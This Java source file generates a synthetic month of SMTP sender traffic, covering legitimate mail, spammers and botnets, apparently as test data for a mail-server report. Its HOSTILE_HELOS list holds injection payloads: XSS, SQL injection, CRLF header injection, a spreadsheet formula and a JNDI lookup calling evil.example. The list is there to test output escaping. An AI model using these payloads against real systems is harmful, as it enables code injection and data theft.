package io.smtpedge.report.month;

import java.net.InetAddress;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/** Who sends in the month. The planted ones are there once, whatever the scale; of all others there are more at a larger one. */
final class Population {

    /** What hostile clients call themselves; as the edge writes it, which escapes what is not printable. */
    static final List<String> HOSTILE_HELOS = List.of(
            "<script>alert(document.domain)</script>",
            "<img src=x onerror=alert(1)>",
            "\\033[2J\\033[31mowned",
            "=HYPERLINK(\"http://evil.example/\")",
            "'; DROP TABLE sessions; --",
            "x\\r\\nSet-Cookie: a=b",
            "%s%s%n{{7*7}}${jndi:ldap://evil.example/a}",
            "</pre><h1>hello</h1>");

    private static final List<String> BOT_HELOS = List.of(
            "ylmf-pc", "localhost", "user", "WIN-%04X", "[127.0.0.1]", "dsl-%d.isp.example", "host%d.home.example");

    private final MonthOptions month;
    private final Plants plants;
    private final SplittableRandom random;
    private final Networks networks;
    private final List<Traffic> all = new ArrayList<>();
    private int organisations;

    private Population(MonthOptions month, Plants plants, Chance chance) {
        this.month = month;
        this.plants = plants;
        random = chance.generator(1);
        networks = new Networks(chance.generator(2), plants);
    }

    static List<Traffic> of(MonthOptions month, Plants plants, Chance chance) {
        Population population = new Population(month, plants, chance);
        population.plant();
        population.good();
        population.serviceProvider();
        population.bad();
        return List.copyOf(population.all);
    }

    private void plant() {
        hijacked(plants.hijack());
        add(
                Host.good(all.size(), plants.mistake().address(), Kind.WRONGLY_LISTED, false),
                "willow-clinic.example",
                "mx.willow-clinic.example",
                rhythm(30, Rhythm.Shape.PEOPLE),
                0);
        Plants.Snowshoe range = plants.snowshoe();
        Plants.Span sends = range.sends();
        for (int host = 1; host <= range.hosts(); host++) {
            add(
                    bad(Networks.host(range, host), Kind.SNOWSHOE, sends.from(), sends.until()),
                    "deal" + host + ".bright-offers.example",
                    "m" + host + ".bright-offers.example",
                    new Rhythm(range.perDay(), Rhythm.Shape.PEOPLE, sends.from(), sends.until()),
                    1);
        }
    }

    /** One address with two kinds of mail: its own, all month, and the spam. */
    private void hijacked(Plants.Hijack hijack) {
        Plants.Span spam = hijack.spam();
        Host host = new Host(all.size(), hijack.address(), Kind.HIJACKED, false, false, spam.from(), spam.until());
        String domain = "linden-works.example";
        add(host, domain, "mail." + domain, rhythm(34, Rhythm.Shape.OFFICE), 0);
        Rhythm bulk = new Rhythm(hijack.perDay(), Rhythm.Shape.MACHINES, spam.from(), spam.until());
        add(host, domain, "mail." + domain, bulk, 1);
    }

    private void good() {
        for (int i = 0; i < times(4); i++) {
            String domain = "mailbox" + i + ".example";
            for (int host = 0; host < 6; host++) {
                provider(networks.server(), domain, host);
            }
        }
        for (int host = 0; host < times(4); host++) {
            provider(networks.ipv6(++organisations), "sixmail.example", host);
        }
        companies("large", times(10), 20);
        companies("mid", times(60), 5);
        companies("small", times(500), 0.5);
        for (int i = 0; i < times(40); i++) {
            company(
                    networks.ipv6(++organisations),
                    Kind.COMPANY,
                    "v6-" + i + ".example",
                    rhythm(2, Rhythm.Shape.OFFICE));
        }
        for (int i = 0; i < times(8); i++) {
            company(
                    networks.server(),
                    Kind.NEWSLETTER,
                    "letter" + i + ".example",
                    rhythm(22, i % 2 == 0 ? Rhythm.Shape.TUESDAY : Rhythm.Shape.THURSDAY));
        }
        for (int i = 0; i < times(6); i++) {
            Instant from = month.hour(24 * (15 + random.nextInt(8)));
            company(
                    networks.server(),
                    Kind.FRESH,
                    "fresh" + i + ".example",
                    new Rhythm(12, Rhythm.Shape.OFFICE, from, month.end()));
        }
    }

    private void provider(InetAddress address, String domain, int host) {
        add(
                Host.good(all.size(), address, Kind.PROVIDER, true),
                domain,
                "out" + host + "." + domain,
                rhythm(24, Rhythm.Shape.PEOPLE),
                0.025);
    }

    private void companies(String size, int number, double perDay) {
        for (int i = 0; i < number; i++) {
            company(
                    networks.server(),
                    Kind.COMPANY,
                    size + i + ".example",
                    rhythm(perDay * (0.5 + random.nextDouble()), Rhythm.Shape.OFFICE));
        }
    }

    private void company(InetAddress address, Kind kind, String domain, Rhythm rhythm) {
        boolean vouched = kind == Kind.COMPANY && random.nextDouble() < 0.3;
        add(Host.good(all.size(), address, kind, vouched), domain, "mail." + domain, rhythm, 0.003);
    }

    /** Shared addresses, over which good and bad customers send. */
    private void serviceProvider() {
        for (int i = 0; i < times(12); i++) {
            add(
                    Host.good(all.size(), networks.server(), Kind.ESP, false),
                    "customer" + i + ".bulkpost.example",
                    "s" + i + ".bulkpost.example",
                    rhythm(26, Rhythm.Shape.OFFICE),
                    0.09);
        }
    }

    private void bad() {
        for (int i = 0; i < times(40); i++) {
            add(
                    bad(networks.carelessServer(), Kind.SPAMMER, month.start().minus(Duration.ofDays(30)), month.end()),
                    "best-price" + i + ".example",
                    "srv" + i + ".best-price.example",
                    rhythm(5, Rhythm.Shape.MACHINES),
                    1);
        }
        for (int i = 0; i < times(3_000); i++) {
            bot(i);
        }
        for (int i = 0; i < times(12); i++) {
            passing(networks.server(), Kind.HARVESTER, 15, Duration.ofDays(10), "check" + i + ".example");
        }
        for (int i = 0; i < times(15); i++) {
            passing(networks.home(random.nextInt(128)), Kind.BRUTE_FORCE, 20, Duration.ofDays(10), "user");
        }
        for (int i = 0; i < times(20); i++) {
            passing(networks.ipv6(0x8000 + i / 4), Kind.BOT, 4, Duration.ofDays(3), "localhost");
        }
    }

    /** Three botnets in waves: each has its homes in some systems more than in others. */
    private void bot(int number) {
        int botnet = number % 3;
        int cluster = random.nextInt(100) < 70 ? botnet * 40 + random.nextInt(24) : random.nextInt(128);
        double wave = botnet * 5 + 10 * random.nextInt(3) + random.nextGaussian() * 3;
        Instant from = month.hour(24 * Math.clamp(wave, 0, month.days() - 0.5));
        Instant until = from.plus(Duration.ofHours(6)).plus(Chance.wait(Duration.ofDays(2), random));
        // Each of the hostile names at least once, and 2 % of them all.
        String helo = number < HOSTILE_HELOS.size() || number % 50 == 0
                ? HOSTILE_HELOS.get(number % HOSTILE_HELOS.size())
                : BOT_HELOS
                        .get(random.nextInt(BOT_HELOS.size()))
                        .replace("%04X", Integer.toHexString(0x1000 + number % 0xefff))
                        .replace("%d", Integer.toString(number));
        boolean dynamic = random.nextInt(100) < 85;
        Host host = Host.bad(all.size(), networks.home(cluster), Kind.BOT, dynamic, from, until);
        add(host, "win" + number % 97 + ".example", helo, new Rhythm(4.5, Rhythm.Shape.MACHINES, from, until), 1);
    }

    /** Somebody who is there for some days. */
    private void passing(InetAddress address, Kind kind, double perDay, Duration stay, String helo) {
        Instant from = month.hour(random.nextDouble() * 24 * Math.max(1, month.days() - 5));
        Instant until = from.plus(stay);
        add(
                bad(address, kind, from, until),
                "x.example",
                helo,
                new Rhythm(perDay, Rhythm.Shape.MACHINES, from, until),
                1);
    }

    private Host bad(InetAddress address, Kind kind, Instant from, Instant until) {
        return Host.bad(all.size(), address, kind, false, from, until);
    }

    private Rhythm rhythm(double perDay, Rhythm.Shape shape) {
        return new Rhythm(perDay, shape, month.start(), month.end());
    }

    private void add(Host host, String domain, String helo, Rhythm rhythm, double spam) {
        Rhythm within = rhythm.until().isAfter(month.end())
                ? new Rhythm(rhythm.perDay(), rhythm.shape(), rhythm.from(), month.end())
                : rhythm;
        all.add(new Traffic(all.size(), host, domain, helo, within, spam));
    }

    private int times(int number) {
        return (int) Math.max(1, Math.round(number * month.scale()));
    }
}
